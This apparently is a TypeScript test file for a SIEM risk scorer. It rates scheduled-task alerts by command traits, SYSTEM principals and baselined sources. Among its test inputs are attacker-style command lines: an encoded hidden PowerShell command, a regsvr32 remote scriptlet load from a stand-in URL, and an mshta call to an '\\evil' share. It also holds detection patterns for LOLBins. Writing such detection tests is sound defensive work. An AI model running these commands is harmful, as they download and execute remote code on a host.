import { test } from 'node:test';
import assert from 'node:assert/strict';
import { commandTraits, scoreRisk, severityForScore, type RiskKnowledge } from '../../src/tuning/index.js';
import { makeAlert } from './corpus.js';

const base = { host: 'ws-001.corp.local', time: '2026-03-02T09:00:00.000Z', sourceIp: '10.0.5.20', user: 'u' };
const factorsOf = (command: string, args?: string, runAs = 'CORP\\svc') => {
  const a = scoreRisk(makeAlert({ ...base, command, args, runAs }));
  return a['seqhunt.risk.factors']!;
};
const traitIds = (line: string) => commandTraits(line).map((t) => t.id);

test('each attacker trait in the command is a named factor with its delta', () => {
  assert.deepEqual(factorsOf('cmd.exe', '/c calc.exe'), [{ factor: 'command runs cmd.exe /c', delta: 10 }]);
  assert.deepEqual(factorsOf('C:\\Windows\\system32\\cmd.exe', '/Q /C whoami'), [{ factor: 'command runs cmd.exe /c', delta: 10 }]);
  assert.deepEqual(factorsOf('powershell.exe', '-NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A'), [{ factor: 'PowerShell with an encoded command', delta: 20 }]);
  assert.deepEqual(factorsOf('C:\\Windows\\System32\\rundll32.exe', 'C:\\ProgramData\\x.dll,Run'), [
    { factor: 'command runs rundll32', delta: 15 },
    { factor: 'script or binary under ProgramData', delta: 10 },
  ]);
  assert.deepEqual(factorsOf('regsvr32', '/s /n /u /i:http://x/y.sct scrobj.dll'), [{ factor: 'command runs regsvr32', delta: 15 }]);
  assert.deepEqual(factorsOf('mshta.exe', 'javascript:a'), [{ factor: 'command runs mshta', delta: 20 }]);
  assert.deepEqual(factorsOf('C:\\Users\\Public\\update.exe'), [{ factor: 'script or binary under Users\\Public', delta: 15 }]);
  assert.deepEqual(factorsOf('C:\\Windows\\Temp\\a.bat'), [{ factor: 'script or binary under a Temp folder', delta: 15 }]);
  assert.deepEqual(factorsOf('C:\\Users\\bob\\AppData\\Local\\Temp\\a.vbs'), [{ factor: 'script or binary under a Temp folder', delta: 15 }]);
  assert.deepEqual(factorsOf('\\\\fileserver\\share\\tool.exe'), [{ factor: 'command uses a UNC path', delta: 15 }]);
});

test('ordinary commands have no traits', () => {
  assert.deepEqual(traitIds('C:\\Windows\\CCM\\ccmexec.exe /runtask {X}'), []);
  assert.deepEqual(traitIds('C:\\Program Files\\Contoso\\agent.exe --collect'), []);
  assert.deepEqual(traitIds('powershell.exe -File C:\\Scripts\\inventory.ps1'), []);
  assert.deepEqual(traitIds('C:\\Windows\\System32\\cmdkey.exe /list'), []);
  assert.deepEqual(traitIds('C:\\Windows\\System32\\msiexec.exe /i C:\\Installers\\tempo.msi'), []);
});

test('SYSTEM as the task principal raises risk, in its usual spellings', () => {
  for (const runAs of ['SYSTEM', 'NT AUTHORITY\\SYSTEM', 'S-1-5-18', 'LocalSystem']) {
    assert.deepEqual(factorsOf('C:\\x.exe', undefined, runAs), [{ factor: 'task runs as SYSTEM', delta: 10 }], runAs);
  }
  assert.deepEqual(factorsOf('C:\\x.exe', undefined, 'CORP\\systemadmin'), []);
});

test('score and severity: the rule values stay, the alert values move by the factors, clamped, in bands', () => {
  const a = scoreRisk(makeAlert({ ...base, command: 'C:\\Windows\\system32\\cmd.exe', args: '/C C:\\Windows\\System32\\notepad.exe', runAs: 'SYSTEM' }));
  assert.equal(a['kibana.alert.rule.risk_score'], 47);
  assert.equal(a['kibana.alert.rule.severity'], 'medium');
  assert.equal(a['kibana.alert.risk_score'], 67);
  assert.equal(a['kibana.alert.severity'], 'high');
  // Scoring again starts from the rule's values: same result.
  scoreRisk(a);
  assert.equal(a['kibana.alert.risk_score'], 67);
  assert.equal(a['seqhunt.risk.factors']!.length, 2);

  const worst = scoreRisk(makeAlert({ ...base, riskScore: 90, severity: 'critical', command: 'mshta.exe', args: '\\\\evil\\s\\a.hta & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A', runAs: 'SYSTEM' }));
  assert.equal(worst['kibana.alert.risk_score'], 100);
  assert.equal(worst['kibana.alert.severity'], 'critical');

  const plain = scoreRisk(makeAlert({ ...base, command: 'C:\\x.exe', runAs: 'CORP\\svc' }));
  assert.equal(plain['kibana.alert.risk_score'], 47);
  assert.equal(plain['kibana.alert.severity'], 'medium');
  assert.deepEqual(plain['seqhunt.risk.factors'], []);

  assert.deepEqual([0, 21, 22, 47, 48, 73, 74, 100].map(severityForScore), ['low', 'low', 'medium', 'medium', 'high', 'high', 'critical', 'critical']);
});

test('baseline knowledge: an unseen source raises risk; a baselined source lowers it unless suppressed', () => {
  const knowledge: RiskKnowledge = { seenSources: new Set(['10.0.5.20', '10.0.7.7']), baselinedSources: new Set(['10.0.5.20']) };
  const unseen = scoreRisk(makeAlert({ ...base, sourceIp: '172.18.39.5', command: 'C:\\x.exe' }), knowledge);
  assert.deepEqual(unseen['seqhunt.risk.factors'], [{ factor: 'source 172.18.39.5 never seen creating tasks in the baseline', delta: 10 }]);
  assert.equal(unseen['kibana.alert.risk_score'], 57);

  const baselined = scoreRisk(makeAlert({ ...base, command: 'C:\\x.exe' }), knowledge);
  assert.deepEqual(baselined['seqhunt.risk.factors'], [{ factor: 'source 10.0.5.20 is baselined, but this task matches none of its baselined shapes', delta: -15 }]);
  assert.equal(baselined['kibana.alert.risk_score'], 32);
  assert.equal(baselined['kibana.alert.severity'], 'medium');

  const suppressed = makeAlert({ ...base, command: 'C:\\x.exe' });
  suppressed.suppressed_by = [{ list_id: 'l', item_id: 'i', name: 'n' }];
  assert.deepEqual(scoreRisk(suppressed, knowledge)['seqhunt.risk.factors'], []);

  // Seen but not baselined (below the thresholds): neither factor.
  assert.deepEqual(scoreRisk(makeAlert({ ...base, sourceIp: '10.0.7.7', command: 'C:\\x.exe' }), knowledge)['seqhunt.risk.factors'], []);
  // Without knowledge, the source is not judged at all.
  assert.deepEqual(scoreRisk(makeAlert({ ...base, sourceIp: '172.18.39.5', command: 'C:\\x.exe' }))['seqhunt.risk.factors'], []);
});

test('knowledge from exception lists: items naming a source (or its CIDR block) make it seen and baselined', async () => {
  const { riskKnowledgeFromLists } = await import('../../src/tuning/index.js');
  const knowledge = riskKnowledgeFromLists([
    {
      list: { list_id: 'k', type: 'detection', name: 'k', description: '', meta: { seqhunt: { sources_seen: [{ source: '10.9.9.9' }] } } },
      items: [
        { item_id: 'a', list_id: 'k', type: 'simple', name: 'a', description: '', entries: [{ field: 'source.ip', operator: 'included', type: 'match', value: '10.0.5.0/24' }] },
        { item_id: 'b', list_id: 'k', type: 'simple', name: 'b', description: '', expire_time: '2020-01-01T00:00:00Z', entries: [{ field: 'source.ip', operator: 'included', type: 'match', value: '10.7.7.7' }] },
        { item_id: 'c', list_id: 'k', type: 'simple', name: 'c', description: '', entries: [{ field: 'source.ip', operator: 'excluded', type: 'match', value: '10.8.8.8' }] },
      ],
    },
  ]);
  const factor = (ip: string) => scoreRisk(makeAlert({ ...base, sourceIp: ip, command: 'C:\\x.exe' }), knowledge)['seqhunt.risk.factors']!.map((f) => f.delta);
  assert.deepEqual(factor('10.0.5.77'), [-15]); // in the baselined block
  assert.deepEqual(factor('10.7.7.7'), []); // seen, but its item expired: not baselined
  assert.deepEqual(factor('10.9.9.9'), []); // seen during learning, below the thresholds
  assert.deepEqual(factor('10.8.8.8'), [10]); // an "is not" entry says nothing about the source
});
